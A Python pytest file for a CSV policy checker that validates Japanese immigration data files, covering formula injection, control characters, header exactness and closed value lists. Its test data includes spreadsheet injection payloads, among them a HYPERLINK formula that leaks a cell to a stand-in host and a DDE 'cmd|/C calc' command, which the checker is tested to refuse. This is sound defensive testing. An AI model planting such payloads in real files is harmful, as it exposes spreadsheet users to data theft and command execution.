"""Formula injection (content.formula), exact headers, TAB and the closed lists (国籍・地域,
在留資格, 在留期間 per 在留資格, 生年月日) through the file check of the bundled agreements — each
refusal names rule, row and column, never the value; legitimate values pass. Synthetic values."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policies.agreement import Agreement
from policies.agreement_file import parse_agreement
from policies.content import check_file
from policies.errors import PolicyFileError
from policies.formulas import formula_free, is_formula
from policies.reasons import Verdict
from tests.conftest import COLUMNS
from tests.policies.bundled import agreement, table

NHI = agreement("isa-nhi-status-loss")
SKILLED = agreement("isa-mhlw-specified-skilled")
ON = dt.date(2026, 11, 20)
TARO = ["TEST TARO", "131041", "東京都新宿区サンプル町1-1", "1", "1990/04/01", "令和8年10月1日"]
SKILLED_HEADER = [c.name for c in SKILLED.datasets["specified-skilled"].columns]
SKILLED_ROW = [
    "1",
    "2026-10-01",
    "TEST TARO",
    "ベトナム",
    "1995-05-05",
    "1",
    "特定技能1号",
    "1年",
    "2027-10-01",
    "東京都新宿区サンプル町1-1",
    "介護",
    "AB12345678CD",
]


def _field(cell: str) -> str:
    return f'"{cell}"' if "\r" in cell or "\n" in cell else cell


def csv_bytes(*rows: list[str], header: list[str] | None = None, encoding: str = "utf-8") -> bytes:
    lines = [",".join(header or COLUMNS), *(",".join(map(_field, r)) for r in rows)]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def nhi(data: bytes, a: Agreement = NHI) -> Verdict:
    return check_file(io.BytesIO(data), a, a.flow("monthly"), ON)


def skilled(*rows: list[str], a: Agreement = SKILLED, on: dt.date = ON) -> Verdict:
    data = csv_bytes(*rows, header=SKILLED_HEADER)
    return check_file(io.BytesIO(data), a, a.flow("monthly"), on)


def where(verdict: Verdict) -> list[tuple[str, int | None, str | None]]:
    return [(r.rule, r.row, r.column) for r in verdict.reasons]


def never_quoted(verdict: Verdict, value: str) -> None:
    for reason in verdict.reasons:
        assert value.strip() not in reason.message


# --- formula injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+81-3-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+2+3",
    "\r=1+2",
    " =1+1",
    "＝1+1",  # full-width forms fold under NFKC
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_in_a_text_cell_is_refused(value: str) -> None:
    row = list(TARO)
    row[2] = value.replace(",", ";")
    verdict = nhi(csv_bytes(row))
    assert where(verdict)[0] == ("content.formula", 2, COLUMNS[2])
    never_quoted(verdict, row[2])


@pytest.mark.parametrize(
    "value", ["東京都新宿区1-2-3", "a=b", "1+1", "e-mail", "東京都＝", "'=quoted", "(-1)"]
)
def test_a_sign_inside_text_is_no_formula(value: str) -> None:
    row = list(TARO)
    row[2] = value
    assert nhi(csv_bytes(row)).accepted


def _with_signed_column(**column: Any) -> Agreement:
    data = table("isa-mhlw-specified-skilled.toml")
    data["datasets"]["specified-skilled"]["columns"][10].update(column)  # 分野, text
    return parse_agreement(data, "x")


@pytest.mark.parametrize("value", ["-1200", "+3.5", '"-1,200"', "－1200"])
def test_allow_sign_lets_a_signed_number_through(value: str) -> None:
    signed = _with_signed_column(allow_sign=True)
    row = list(SKILLED_ROW)
    row[10] = value
    assert skilled(row, a=signed).accepted, skilled(row, a=signed).reasons
    assert not skilled(row).accepted  # without the switch it is refused


@pytest.mark.parametrize("value", ["-1+2", "-A1", "=1", "@x", "+cmd|x", "\t-1"])
def test_allow_sign_still_refuses_formulas(value: str) -> None:
    signed = _with_signed_column(allow_sign=True)
    row = list(SKILLED_ROW)
    row[10] = value
    verdict = skilled(row, a=signed)
    assert ("content.formula", 2, "分野") in where(verdict)


def test_allow_sign_must_be_true_or_false() -> None:
    with pytest.raises(PolicyFileError) as caught:
        _with_signed_column(allow_sign="yes")
    assert "allow_sign" in str(caught.value)


CELLS = st.lists(
    st.text(alphabet=" \t\r=+-@＝＋－＠0123456789,.aA東", max_size=6), min_size=1, max_size=5
)


@given(CELLS, st.booleans())
def test_the_column_check_never_vouches_for_a_formula(cells: list[str], allow: bool) -> None:
    if formula_free(cells, allow_sign=allow):
        assert not any(is_formula(c, allow_sign=allow) for c in cells)


@given(CELLS, st.booleans())
def test_the_column_check_agrees_with_the_cell_check_without_line_breaks(
    cells: list[str], allow: bool
) -> None:
    cells = [c.replace("\r", "") for c in cells]
    assert formula_free(cells, allow_sign=allow) == (
        not any(is_formula(c, allow_sign=allow) for c in cells)
    )


# --- TAB and control characters ------------------------------------------------------------------


@pytest.mark.parametrize("control", ["\t", "\x1b", "\x7f", "\x07", "\x00"])
def test_tab_is_refused_inside_text_like_esc_del_bel_and_nul(control: str) -> None:
    row = list(TARO)
    row[2] = f"東京都{control}新宿区"
    verdict = nhi(csv_bytes(row))
    assert where(verdict) == [("value.control-character", 2, COLUMNS[2])]


# --- header exactness ----------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["性別 ", " 性別", "性別\u3000", "\t性別"])
def test_a_header_cell_with_a_space_is_refused_naming_the_column(cell: str) -> None:
    header = list(COLUMNS)
    header[3] = cell
    verdict = nhi(csv_bytes(TARO, header=header))
    assert where(verdict) == [("content.header.space", 1, "性別")]
    assert "space" in verdict.reasons[0].message


def test_the_documented_normalisations_still_pass() -> None:
    full_width = list(COLUMNS)
    full_width[0] = "氏名（英字）"  # full-width brackets fold under NFKC
    assert nhi(csv_bytes(TARO, header=full_width)).accepted
    bom = list(COLUMNS)
    bom[0] = "\ufeff" + bom[0]  # a BOM read as text (UTF-8 without signature)
    assert nhi(csv_bytes(TARO, header=bom)).accepted


# --- closed lists through the file check ---------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "rule"),
    [
        (3, "アトランティス", "value.nationality"),
        (3, "XX", "value.nationality"),
        (6, "観光ビザ", "value.status-of-residence"),
        (6, "特定技能3号", "value.status-of-residence"),
        (7, "99年", "value.period-of-stay"),
        (7, "5年", "value.period-for-status"),  # 特定技能1号: at most 3年
        (7, "無期限", "value.period-for-status"),
        (4, "2099-01-01", "value.birth-date"),
        (4, "1890-01-01", "value.birth-date"),
        (4, "2026-11-21", "value.birth-date"),  # the day after the check
    ],
)
def test_closed_lists_refuse_with_rule_row_and_column(column: int, value: str, rule: str) -> None:
    row = list(SKILLED_ROW)
    row[column] = value
    verdict = skilled(SKILLED_ROW, row)
    assert where(verdict) == [(rule, 3, SKILLED_HEADER[column])]
    if rule != "value.period-for-status":  # 無期限 is the law's word, said in the fix
        never_quoted(verdict, value)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        (3, "韓国"),
        (3, "台湾"),
        (3, "VNM"),
        (3, "PH"),
        (3, "無国籍"),
        (3, "ＶＮＭ"),
        (6, "特定技能2号"),
        (6, "技術・人文知識・国際業務"),
        (6, "特定活動（告示４６号）"),
        (4, "2026-11-20"),  # born on the day of the check
        (4, "1897-01-01"),  # within 130 years
    ],
)
def test_closed_lists_accept_legitimate_values(column: int, value: str) -> None:
    row = list(SKILLED_ROW)
    row[column] = value
    assert skilled(row).accepted, skilled(row).reasons


@pytest.mark.parametrize(
    ("status", "period", "ok"),
    [
        ("永住者", "無期限", True),
        ("永住者", "5年", False),
        ("高度専門職2号", "無期限", True),
        ("高度専門職1号ロ", "5年", True),
        ("留学", "4年3月", True),
        ("留学", "4年6月", False),
        ("特定技能2号", "3年", True),
        ("技能実習1号イ", "2年", False),
        ("特定活動(告示25号)", "5年", True),
        ("日本人の配偶者等", "無期限", False),
    ],
)
def test_period_is_checked_per_status(status: str, period: str, ok: bool) -> None:
    row = list(SKILLED_ROW)
    row[6], row[7] = status, period
    verdict = skilled(*[row] * 3)  # three rows: the bulk path judges them together
    assert verdict.accepted == ok, verdict.reasons
    if not ok:
        assert {r.rule for r in verdict.reasons} == {"value.period-for-status"}
        assert {r.column for r in verdict.reasons} == {"在留期間"}


def test_bundled_seeds_use_the_closed_types() -> None:
    types = {c.name: c.type for c in SKILLED.datasets["specified-skilled"].columns}
    assert types["国籍・地域"] == "nationality"
    assert types["在留資格"] == "status-of-residence"
    assert types["在留期間"] == "period-of-stay"
    assert types["生年月日"] == "birth-date"
    arrears = agreement("shinjuku-immigration-arrears").datasets["arrears"]
    assert {c.name: c.type for c in arrears.columns}["生年月日"] == "birth-date"
